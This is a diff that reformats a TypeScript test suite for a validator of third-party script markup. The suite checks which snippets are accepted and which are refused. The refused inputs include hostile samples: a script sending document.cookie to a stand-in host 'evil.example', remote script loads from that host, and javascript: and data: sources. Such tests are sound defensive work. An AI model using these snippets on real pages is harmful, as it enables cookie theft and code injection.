@@ -5,28 +5,51 @@ import { faultOfElements, readMarkup, writeMarkup, type Place } from './script-m
 const hosts = ['https://www.example.com'];
 const faultOf = (markup: string, place: Place = 'head', isLocal = false) => {
   const read = readMarkup(markup, place);
-  return 'fault' in read ? read.fault.code : faultOfElements(read.elements, hosts, isLocal)?.code ?? null;
+  return 'fault' in read ? read.fault.code : (faultOfElements(read.elements, hosts, isLocal)?.code ?? null);
 };
 
 test.each([
   ['<script src="https://www.example.com/a.js" async data-site="melur"></script>', 'head'],
-  ["\n<!-- their comment -->\n<SCRIPT type='text/javascript'>window.q = window.q || []; // count\n</SCRIPT>\n<link rel=preconnect href=https://www.example.com>", 'head'],
+  [
+    "\n<!-- their comment -->\n<SCRIPT type='text/javascript'>window.q = window.q || []; // count\n</SCRIPT>\n<link rel=preconnect href=https://www.example.com>",
+    'head',
+  ],
   ['<script src="https://www.example.com/a.js" integrity="sha384-x" crossorigin="anonymous"></script>', 'body'],
-  ['<div id="chat" class="wide" data-theme="teal"></div><img src="https://www.example.com/p.gif?a=1&amp;b=2" width=1 height=1 alt>', 'body'],
+  [
+    '<div id="chat" class="wide" data-theme="teal"></div><img src="https://www.example.com/p.gif?a=1&amp;b=2" width=1 height=1 alt>',
+    'body',
+  ],
   ['<script>fetch("https://www.example.com/x"); load("//www.example.com/y")</script>', 'head'],
 ] as [string, Place][])('what companies give out is understood: %s', (markup, place) => {
   expect(faultOf(markup, place)).toBeNull();
 });
 
 test.each([
-  ['plain text', 'unreadable'], ['<script src="https://www.example.com/a.js">', 'unreadable'], ['<script src="https://www.example.com/a.js', 'unreadable'],
-  ['<iframe src="https://www.example.com/"></iframe>', 'element'], ['<style>*{display:none}</style>', 'element'], ['<noscript><img src=x></noscript>', 'element'], ['<img src="https://www.example.com/p.gif">', 'element'],
-  ['<script src="https://www.example.com/a.js" onload="steal()"></script>', 'attribute'], ['<script nonce="x">1</script>', 'attribute'], ['<script type="application/ld+json">{}</script>', 'attribute'],
-  ['<link rel="stylesheet" href="https://www.example.com/a.css">', 'attribute'], ['<script src="http://www.example.com/a.js"></script>', 'address'], ['<script src="/local.js"></script>', 'address'],
-  ['<script src="javascript:alert(1)"></script>', 'address'], ['<script src="https://user:pw@www.example.com/a.js"></script>', 'address'], ['<script src="data:text/javascript,1"></script>', 'address'],
-  ['<script src="https://evil.example/a.js"></script>', 'host'], ['<script src="//evil.example/a.js"></script>', 'host'], ['<script src="https://www.example.com:8443/a.js"></script>', 'host'],
-  ['<script>new Image().src = "https://evil.example/?" + document.cookie</script>', 'host'], ['<script>load("//evil.example/x")</script>', 'host'], ['<script>fetch("http://www.example.com/")</script>', 'address'],
-  ['<script src="https://www.example.com/a.js">also()</script>', 'inline'], ['<script></script>', 'inline'], ['<script><!-- <script> x</script>', 'inline'],
+  ['plain text', 'unreadable'],
+  ['<script src="https://www.example.com/a.js">', 'unreadable'],
+  ['<script src="https://www.example.com/a.js', 'unreadable'],
+  ['<iframe src="https://www.example.com/"></iframe>', 'element'],
+  ['<style>*{display:none}</style>', 'element'],
+  ['<noscript><img src=x></noscript>', 'element'],
+  ['<img src="https://www.example.com/p.gif">', 'element'],
+  ['<script src="https://www.example.com/a.js" onload="steal()"></script>', 'attribute'],
+  ['<script nonce="x">1</script>', 'attribute'],
+  ['<script type="application/ld+json">{}</script>', 'attribute'],
+  ['<link rel="stylesheet" href="https://www.example.com/a.css">', 'attribute'],
+  ['<script src="http://www.example.com/a.js"></script>', 'address'],
+  ['<script src="/local.js"></script>', 'address'],
+  ['<script src="javascript:alert(1)"></script>', 'address'],
+  ['<script src="https://user:pw@www.example.com/a.js"></script>', 'address'],
+  ['<script src="data:text/javascript,1"></script>', 'address'],
+  ['<script src="https://evil.example/a.js"></script>', 'host'],
+  ['<script src="//evil.example/a.js"></script>', 'host'],
+  ['<script src="https://www.example.com:8443/a.js"></script>', 'host'],
+  ['<script>new Image().src = "https://evil.example/?" + document.cookie</script>', 'host'],
+  ['<script>load("//evil.example/x")</script>', 'host'],
+  ['<script>fetch("http://www.example.com/")</script>', 'address'],
+  ['<script src="https://www.example.com/a.js">also()</script>', 'inline'],
+  ['<script></script>', 'inline'],
+  ['<script><!-- <script> x</script>', 'inline'],
   ['<script src="http://localhost:9/a.js"></script>', 'address'],
 ])('refused: %s is %s', (markup, code) => {
   expect(faultOf(markup)).toBe(code);
@@ -37,22 +60,55 @@ test('outside production a program of this very machine may be tried', () => {
 });
 
 test('what was read is written in one spelling, marked when it waits for consent, and read back the same', () => {
-  const read = readMarkup('<script SRC=https://www.example.com/a.js async></script>\n<script>go("a & b")</script>', 'head');
+  const read = readMarkup(
+    '<script SRC=https://www.example.com/a.js async></script>\n<script>go("a & b")</script>',
+    'head',
+  );
   if ('fault' in read) throw new Error(read.fault.code);
   const written = writeMarkup(read.elements, true);
-  expect(written).toBe('<script src="https://www.example.com/a.js" async data-needs-consent></script>\n<script data-needs-consent>go("a & b")</script>');
+  expect(written).toBe(
+    '<script src="https://www.example.com/a.js" async data-needs-consent></script>\n<script data-needs-consent>go("a & b")</script>',
+  );
   expect(readMarkup(writeMarkup(read.elements, false), 'head')).toEqual(read);
 });
 
 test('no text at all is read for longer than a moment, and what is accepted never holds a handler or another host', () => {
-  const piece = fc.constantFrom('<script', '</script>', ' src="', 'https://www.example.com/a.js', 'https://evil.example/', '"', "'", '>', '<!--', '-->', ' onload=', 'x', '<div', '</div>', '<img', ' ', '=', '//', '\n');
-  fc.assert(fc.property(fc.array(piece, { maxLength: 60 }).map((parts) => parts.join('')), fc.constantFrom<Place>('head', 'body'), (markup, place) => {
-    const read = readMarkup(markup, place);
-    if ('fault' in read || faultOfElements(read.elements, hosts, false)) return;
-    const written = writeMarkup(read.elements, false);
-    expect(written).not.toMatch(/ onload| https:\/\/evil/);
-  }), { numRuns: 500 });
+  const piece = fc.constantFrom(
+    '<script',
+    '</script>',
+    ' src="',
+    'https://www.example.com/a.js',
+    'https://evil.example/',
+    '"',
+    "'",
+    '>',
+    '<!--',
+    '-->',
+    ' onload=',
+    'x',
+    '<div',
+    '</div>',
+    '<img',
+    ' ',
+    '=',
+    '//',
+    '\n',
+  );
+  fc.assert(
+    fc.property(
+      fc.array(piece, { maxLength: 60 }).map((parts) => parts.join('')),
+      fc.constantFrom<Place>('head', 'body'),
+      (markup, place) => {
+        const read = readMarkup(markup, place);
+        if ('fault' in read || faultOfElements(read.elements, hosts, false)) return;
+        const written = writeMarkup(read.elements, false);
+        expect(written).not.toMatch(/ onload| https:\/\/evil/);
+      },
+    ),
+    { numRuns: 500 },
+  );
   const startedAt = performance.now();
-  for (const text of ['<script ', '<!--', '<div a', ' x="', '<'].map((part) => part.repeat(4_000))) readMarkup(text, 'head');
+  for (const text of ['<script ', '<!--', '<div a', ' x="', '<'].map((part) => part.repeat(4_000)))
+    readMarkup(text, 'head');
   expect(performance.now() - startedAt).toBeLessThan(2_000);
 });
